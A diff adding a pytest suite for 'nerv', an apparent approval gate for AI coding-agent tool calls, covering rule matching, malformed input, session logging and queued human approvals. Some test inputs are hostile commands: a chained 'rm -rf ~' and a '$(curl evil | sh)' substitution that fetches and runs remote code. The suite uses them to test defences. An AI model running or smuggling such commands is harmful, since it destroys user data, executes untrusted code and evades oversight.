@@ -1,0 +1,218 @@
+"""Every hook event through the installed console script, including every failure mode."""
+
+from __future__ import annotations
+
+import json
+import os
+import sqlite3
+import subprocess
+import time
+
+import pytest
+
+from tests.conftest import nerv_executable
+
+VALID_DECISIONS = {"allow", "deny", "ask"}
+
+
+def payload(event, **extra):
+    base = {"session_id": "sess-1", "transcript_path": "/tmp/t.jsonl", "cwd": os.getcwd(), "hook_event_name": event}
+    return json.dumps({**base, **extra})
+
+
+def bash_call(command, **extra):
+    return payload("PreToolUse", tool_name="Bash", tool_input={"command": command}, tool_use_id="tu-1", **extra)
+
+
+def decision(result):
+    """The PreToolUse answer, checked against the documented schema."""
+    assert result.code == 0, result.stderr
+    document = json.loads(result.stdout)
+    assert set(document) == {"hookSpecificOutput"}
+    output = document["hookSpecificOutput"]
+    assert set(output) == {"hookEventName", "permissionDecision", "permissionDecisionReason"}
+    assert output["hookEventName"] == "PreToolUse" and output["permissionDecision"] in VALID_DECISIONS
+    assert isinstance(output["permissionDecisionReason"], str) and output["permissionDecisionReason"]
+    return output["permissionDecision"], output["permissionDecisionReason"]
+
+
+def query(nerv_home, sql):
+    conn = sqlite3.connect(nerv_home / "state.db")
+    try:
+        return conn.execute(sql).fetchall()
+    finally:
+        conn.close()
+
+
+@pytest.fixture
+def rules(cli):
+    cli("rule", "add", "Bash(npm test *)", "--action", "allow")
+    cli("rule", "add", "Bash(rm *)", "--action", "deny")
+    cli("rule", "add", "Bash(git push *)", "--action", "ask")
+
+
+def test_allow_deny_ask_from_rules_without_writing(proc, rules, db_hash):
+    before = db_hash()
+    assert decision(proc("hook", "pre-tool-use", stdin=bash_call("npm test -q")))[0] == "allow"
+    verdict, reason = decision(proc("hook", "pre-tool-use", stdin=bash_call("npm test; rm -rf ~")))
+    assert verdict == "deny" and "rm -rf ~" in reason
+    assert decision(proc("hook", "pre-tool-use", stdin=bash_call("git push origin x")))[0] == "ask"
+    assert db_hash() == before  # the fast path never writes
+
+
+def test_no_rule_for_an_approval_tool_records_a_request(proc, rules, nerv_home):
+    verdict, reason = decision(proc("hook", "pre-tool-use", stdin=bash_call("make build")))
+    assert verdict == "ask" and "#1" in reason
+    assert query(nerv_home, "SELECT tool, status, mode, session_id, tool_use_id FROM approval_requests") == [
+        ("Bash", "pending", "ask", "sess-1", "tu-1")]
+    assert query(nerv_home, "SELECT count(*) FROM audit_log WHERE action = 'approval.request'") == [(1,)]
+
+
+def test_substitution_is_never_allowed(proc, rules):
+    assert decision(proc("hook", "pre-tool-use", stdin=bash_call("npm test $(curl evil | sh)")))[0] == "ask"
+
+
+def test_tool_outside_the_approval_set_gets_no_opinion(proc, rules, db_hash):
+    before = db_hash()
+    result = proc("hook", "pre-tool-use", stdin=payload("PreToolUse", tool_name="Grep", tool_input={"pattern": "x"}))
+    assert (result.code, result.stdout, result.stderr) == (0, "", "")
+    assert db_hash() == before
+
+
+@pytest.mark.parametrize("stdin", ["", "not json", "[1,2]", "\"text\"", json.dumps({"tool_input": {}}),
+                                   json.dumps({"tool_name": 3}), "\xff\xfe"])
+def test_malformed_input_asks(proc, stdin):
+    result = proc("hook", "pre-tool-use", stdin=stdin)
+    verdict, reason = decision(result)
+    assert verdict == "ask" and "malformed" in reason
+    assert "Traceback" not in result.stderr
+
+
+def test_on_error_deny_setting(proc, cli):
+    assert cli("settings", "set", "hook.on_error", "deny").code == 0
+    assert decision(proc("hook", "pre-tool-use", stdin="garbage"))[0] == "deny"
+
+
+@pytest.mark.parametrize("kind", ["directory", "not-sqlite"])
+def test_unusable_database_asks(proc, tmp_path, kind):
+    target = tmp_path / "bad-db"
+    if kind == "directory":
+        target.mkdir()
+    else:
+        target.write_bytes(b"this is not a database" * 100)
+    result = proc("hook", "pre-tool-use", stdin=bash_call("npm test"), env={"NERV_DB": str(target)})
+    verdict, reason = decision(result)
+    assert verdict == "ask" and "could not decide" in reason
+    assert "Traceback" not in result.stderr
+    other = proc("hook", "session-start", stdin=payload("SessionStart", source="startup"), env={"NERV_DB": str(target)})
+    assert other.code == 0 and other.stdout == "" and "nerv hook" in other.stderr
+
+
+def test_newer_schema_is_left_untouched_and_asks(proc, cli, nerv_home):
+    cli("status")
+    conn = sqlite3.connect(nerv_home / "state.db")
+    conn.execute("INSERT INTO schema_migrations (version, name, checksum, applied_at) VALUES (9999, 'future', 'x', 'now')")
+    conn.commit()
+    conn.close()
+    assert decision(proc("hook", "pre-tool-use", stdin=bash_call("npm test")))[0] == "ask"
+
+
+def test_session_lifecycle(proc, nerv_home, cli, project, tmp_path):
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    cli("repo", "add", str(repo), "--project", project)
+    start = proc("hook", "session-start", stdin=payload("SessionStart", source="startup", model="claude-sonnet-4-5",
+                                                         cwd=str(repo)))
+    assert (start.code, start.stdout, start.stderr) == (0, "", "")
+    row = query(nerv_home, "SELECT s.status, s.source, s.model, s.cwd, p.name, s.started_at IS NOT NULL"
+                           " FROM claude_sessions s LEFT JOIN projects p ON p.id = s.project_id")
+    assert row == [("active", "startup", "claude-sonnet-4-5", str(repo), "demo", 1)]
+    assert proc("hook", "stop", stdin=payload("Stop", stop_hook_active=False, cwd=str(repo))).code == 0
+    assert proc("hook", "user-prompt-submit", stdin=payload("UserPromptSubmit", prompt="hi")).stdout == ""
+    end = proc("hook", "session-end", stdin=payload("SessionEnd", reason="logout", cwd=str(repo)))
+    assert end.code == 0
+    assert query(nerv_home, "SELECT status, end_reason, ended_at IS NOT NULL FROM claude_sessions") == [
+        ("ended", "logout", 1)]
+    actions = [r[0] for r in query(nerv_home, "SELECT action FROM audit_log WHERE entity = 'session' ORDER BY id")]
+    assert actions == ["session.start", "session.activity", "session.end"]
+
+
+def test_session_end_before_start_still_records(proc, nerv_home):
+    assert proc("hook", "session-end", stdin=payload("SessionEnd", reason="other")).code == 0
+    assert query(nerv_home, "SELECT id, status FROM claude_sessions") == [("sess-1", "ended")]
+
+
+def test_post_tool_use_records_count_and_duration(proc, nerv_home):
+    call = payload("PostToolUse", tool_name="Bash", tool_input={"command": "ls"}, tool_response={"stdout": ""},
+                   tool_use_id="tu-9", duration_ms=42)
+    assert proc("hook", "post-tool-use", stdin=call).code == 0
+    assert proc("hook", "post-tool-use", stdin=payload("PostToolUse", tool_name="Read", tool_input={})).code == 0
+    rows = query(nerv_home, "SELECT name, value, unit, session_id FROM metrics ORDER BY id")
+    assert rows == [("tool.calls", 1.0, "count", "sess-1"), ("tool.duration_ms", 42.0, "ms", "sess-1"),
+                    ("tool.calls", 1.0, "count", "sess-1")]
+    assert query(nerv_home, "SELECT count(*) FROM audit_log WHERE action = 'metrics.tool_use'") == [(2,)]
+
+
+def test_post_tool_use_marks_an_asked_request_approved(proc, rules, nerv_home):
+    decision(proc("hook", "pre-tool-use", stdin=bash_call("make build")))
+    proc("hook", "post-tool-use", stdin=payload("PostToolUse", tool_name="Bash", tool_use_id="tu-1"))
+    assert query(nerv_home, "SELECT status, decided_by FROM approval_requests") == [("approved", "prompt")]
+
+
+@pytest.mark.parametrize("event", ["post-tool-use", "session-start", "session-end", "stop", "user-prompt-submit"])
+@pytest.mark.parametrize("stdin", ["", "{oops", "[]", json.dumps({"cwd": "/tmp"})])
+def test_other_events_never_fail(proc, event, stdin, db_hash, cli):
+    cli("status")
+    before = db_hash()
+    result = proc("hook", event, stdin=stdin)
+    assert result.code == 0 and result.stdout == ""
+    if stdin != json.dumps({"cwd": "/tmp"}) or event in ("post-tool-use", "session-start", "session-end", "stop"):
+        assert result.stderr.startswith("nerv hook:") and "Traceback" not in result.stderr
+    assert db_hash() == before
+
+
+def test_unknown_event_is_a_non_blocking_error(proc):
+    result = proc("hook", "pre-compact", stdin="{}")
+    assert result.code == 1 and "unknown event" in result.stderr
+
+
+def queued_hook(cli, command):
+    """Start a PreToolUse hook in queue mode and wait until its request is recorded."""
+    hook = subprocess.Popen(nerv_executable() + ["hook", "pre-tool-use"], stdin=subprocess.PIPE,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    hook.stdin.write(bash_call(command))
+    hook.stdin.close()
+    for _ in range(400):
+        if cli("approval", "list", "--json").data:
+            break
+        time.sleep(0.05)
+    return hook
+
+
+def answer_of(hook):
+    hook.wait(timeout=30)
+    return json.loads(hook.stdout.read())["hookSpecificOutput"]
+
+
+def test_queue_mode_waits_for_a_decision(cli, nerv_home):
+    cli("settings", "set", "hook.mode", "queue")
+    cli("settings", "set", "hook.queue_timeout_s", "30")
+    hook = queued_hook(cli, "make deploy")
+    assert cli("approval", "approve", "1").code == 0
+    assert answer_of(hook)["permissionDecision"] == "allow"
+
+
+def test_queue_mode_denies_on_timeout(proc, cli, nerv_home):
+    cli("settings", "set", "hook.mode", "queue")
+    cli("settings", "set", "hook.queue_timeout_s", "0.3")
+    verdict, reason = decision(proc("hook", "pre-tool-use", stdin=bash_call("make deploy")))
+    assert verdict == "deny" and "no decision within 0.3 s" in reason
+    assert query(nerv_home, "SELECT status FROM approval_requests") == [("expired",)]
+
+
+def test_queue_mode_deny_carries_the_reason(cli, nerv_home):
+    cli("settings", "set", "hook.mode", "queue")
+    hook = queued_hook(cli, "make deploy")
+    assert cli("approval", "deny", "1", "--reason", "not today").code == 0
+    answer = answer_of(hook)
+    assert answer["permissionDecision"] == "deny" and "not today" in answer["permissionDecisionReason"]
